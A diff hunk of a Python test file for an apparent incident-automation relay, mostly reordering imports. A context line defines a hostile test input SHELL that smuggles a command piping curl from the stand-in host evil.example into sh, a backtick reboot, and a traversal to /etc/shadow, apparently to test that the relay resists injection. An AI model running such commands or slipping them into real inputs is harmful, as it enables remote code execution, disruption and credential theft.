@@ -18,15 +18,15 @@ import httpx
 import pytest
 from temporalio.testing import WorkflowEnvironment
 
-from starters.relay import RelayConfig
-from starters.relay_server import RelayServer
+from sandbox import SandboxCluster
+from starters.relay.config import RelayConfig
+from starters.relay.server import RelayServer
 from tests.relay.conftest import alert, payload
 from tests.support.policies import fast_policy
 from tests.support.zt import running_workers, wait_for
 from zerotouch.models import IncidentStatus
 from zerotouch.names import WORKFLOWS_QUEUE, queue_for
 from zerotouch.policy import load_policy
-from zerotouch.sandbox import SandboxCluster
 
 TOKEN = "hostile-" + uuid.uuid4().hex
 SHELL = "$(curl -s http://evil.example/x | sh); `reboot`; ../../etc/shadow"
